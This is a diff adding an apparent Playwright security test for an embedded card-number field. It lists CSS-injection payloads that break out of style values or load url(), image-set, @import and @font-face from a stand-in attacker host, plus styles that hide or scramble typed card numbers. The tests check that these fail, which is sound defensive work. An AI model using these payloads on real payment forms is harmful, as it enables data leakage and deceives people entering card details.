@@ -1,0 +1,116 @@
+import { attackerOrigin, shopOrigin, test, type World } from './world/fixtures.ts';
+import { prove } from './world/proof.ts';
+import { card, inputIn, requestsTo } from './world/shop.ts';
+
+test.describe.configure({ mode: 'parallel' });
+
+const url = `url(${attackerOrigin}/style)`;
+
+/** Values that load something, break out of their place, or bring text of their own. */
+const values = [
+  url,
+  `red; background-image: ${url}`,
+  `red} input{background-image:${url}`,
+  `red !important; background-image: ${url}`,
+  `red/**/;/**/background-image:/**/${url}`,
+  `\\75rl(${attackerOrigin}/style)`,
+  `image-set("${attackerOrigin}/style" 1x)`,
+  `-webkit-image-set(${url} 1x)`,
+  `cross-fade(${url}, ${url})`,
+  `var(--x, ${url})`,
+  `attr(value)`,
+  `env(safe, ${url})`,
+  `red\n;background-image:${url}`,
+  `"a"; background-image: ${url}; x: "`,
+];
+
+const properties = [
+  ...['backgroundColor', 'color', 'fontFamily', 'fontSize', 'fontVariant', 'letterSpacing', 'lineHeight', 'padding'],
+  ...['textDecoration', 'textShadow', 'textTransform', 'background', 'backgroundImage', 'cursor', 'content', 'filter'],
+  ...['mask', 'maskImage', 'clipPath', 'listStyleImage', 'borderImage', 'src', '--x', 'animation', 'transition'],
+];
+
+/** A style that says each of those values of each property, in each variant and selector. */
+const hostileStyle = (value: string) => {
+  const rules = Object.fromEntries(properties.map((name) => [name, value]));
+  const nested = [':hover', ':focus', '::placeholder', '::selection', ':visited', 'input[value^="4"]', '@media all'];
+  const all = { ...rules, ...Object.fromEntries(nested.map((selector) => [selector, rules])) };
+  return {
+    fonts: [`${attackerOrigin}/style`, `@import ${url}`],
+    base: all,
+    complete: all,
+    invalid: all,
+    empty: all,
+    [`@import ${url};`]: all,
+    [`} @font-face { src: ${url} } x {`]: all,
+  };
+};
+
+const dress = async (world: World): Promise<string[]> => {
+  const page = await world.open(shopOrigin);
+  await page.evaluate(([key, style]) => window.attack.mount(key, { number: 'cardNumber' }, { style }), [
+    world.accounts.acme.elements,
+    hostileStyle(values[0] ?? ''),
+  ] as const);
+  await inputIn(page, 'number').pressSequentially(card.number);
+  for (const value of values) {
+    await page.evaluate((style) => window.attack.fields.number?.update({ style } as object), hostileStyle(value));
+    // A style that is not laid out loads nothing.
+    await inputIn(page, 'number').evaluate((input) => {
+      input.getBoundingClientRect();
+      return new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
+    });
+  }
+  return [...new Set(requestsTo(world, 'attacker.localhost'))];
+};
+
+prove('case 6: no style loads anything, whatever browsers allow', {
+  lacking: ['a frame loads no images'],
+  guard: 'style values are written by their readers',
+  attack: dress,
+  held: [],
+  fallen: ['GET /style'],
+});
+
+prove('case 6: no style loads anything, were its values not read', {
+  lacking: ['style values are written by their readers'],
+  guard: 'a frame loads no images',
+  attack: dress,
+  held: [],
+  fallen: ['GET /style'],
+});
+
+/** Styles under which people type into what they do not see, or are made to see something else. */
+const redress = {
+  color: 'transparent',
+  fontSize: '0px',
+  letterSpacing: '-100px',
+  lineHeight: '0',
+  padding: '0 0 0 9999px',
+  textShadow: '9999px 0 red',
+  textAlign: 'left; opacity: 0; direction: rtl; unicode-bidi: bidi-override; text-indent: -9999px; visibility: hidden',
+};
+
+prove('case 7: no style hides, shrinks, moves or turns what is typed', {
+  guard: 'style values are written by their readers',
+  attack: async (world) => {
+    const page = await world.open(shopOrigin);
+    await page.evaluate(([key, base]) => window.attack.mount(key, { number: 'cardNumber' }, { style: { base } }), [
+      world.accounts.acme.elements,
+      redress,
+    ] as const);
+    await inputIn(page, 'number').pressSequentially(card.number);
+    return inputIn(page, 'number').evaluate((input) => {
+      const style = getComputedStyle(input);
+      return {
+        isSeen: !/^rgba\(.*, 0\)$/.test(style.color) && style.opacity === '1' && style.visibility === 'visible',
+        isLegible: Number.parseFloat(style.fontSize) >= 10 && style.letterSpacing === 'normal',
+        stays: style.textIndent === '0px' && style.paddingLeft === '0px',
+        reads: style.direction === 'ltr' && style.unicodeBidi === 'isolate',
+        mirrored: input.getAttribute('value'),
+      };
+    });
+  },
+  held: { isSeen: true, isLegible: true, stays: true, reads: true, mirrored: null },
+  fallen: { isSeen: false, isLegible: false, stays: false, reads: false, mirrored: null },
+});
